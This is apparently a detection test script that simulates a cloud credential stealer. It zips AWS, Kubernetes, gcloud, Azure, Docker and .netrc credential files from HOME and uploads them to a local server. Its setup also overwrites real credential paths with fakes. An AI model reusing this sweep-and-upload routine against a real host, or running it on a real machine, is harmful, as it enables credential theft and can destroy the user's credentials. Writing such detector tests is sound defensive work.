# technique: T1552.001 T1560.001 T1074.001 T1041
"""Cloud and Kubernetes credential files collected into a zip and uploaded (T1552.001, T1560.001, T1041).

Cloud-focused stealers (e.g. the TeamTNT Python ports, malicious packages
hitting CI runners) sweep ~/.aws/credentials, ~/.kube/config,
~/.config/gcloud/*.json, ~/.azure, ~/.docker/config.json, ~/.netrc, zip them
in memory with zipfile and upload with a multipart POST via http.client.
The set-up plants fake files under HOME.

A good detector raises a high alert: cloud credential files are read and the
process then sends data to the network.
"""
import http.client, http.server, io, os, threading, zipfile

home = os.path.expanduser("~")
fakes = {".aws/credentials": "[default]\naws_access_key_id=AKIAFAKE\naws_secret_access_key=fake\n",
         ".kube/config": "apiVersion: v1\nusers:\n- name: x\n  user:\n    token: fake\n",
         ".config/gcloud/application_default_credentials.json": '{"type":"authorized_user"}',
         ".docker/config.json": '{"auths":{}}'}
for rel, body in fakes.items():
    p = os.path.join(home, rel); os.makedirs(os.path.dirname(p), exist_ok=True)
    open(p, "w").write(body)

class H(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        self.rfile.read(int(self.headers["Content-Length"])); self.send_response(204); self.end_headers()
    def log_message(self, *a): pass
srv = http.server.HTTPServer(("127.0.0.1", 0), H)
threading.Thread(target=srv.serve_forever, daemon=True).start()
try:
    mem = io.BytesIO()
    with zipfile.ZipFile(mem, "w", zipfile.ZIP_DEFLATED) as z:
        for rel in (".aws/credentials", ".kube/config", ".config/gcloud/application_default_credentials.json",
                    ".docker/config.json", ".netrc", ".azure/accessTokens.json"):
            p = os.path.join(home, rel)
            if os.path.exists(p):
                z.write(p, rel)
    b = "----rc"
    body = (f"--{b}\r\nContent-Disposition: form-data; name=\"f\"; filename=\"c.zip\"\r\n\r\n").encode() \
        + mem.getvalue() + f"\r\n--{b}--\r\n".encode()
    c = http.client.HTTPConnection("127.0.0.1", srv.server_address[1], timeout=3)
    c.request("POST", "/api/upload", body, {"Content-Type": f"multipart/form-data; boundary={b}"})
    c.getresponse().read()
except Exception:
    pass
finally:
    srv.shutdown()
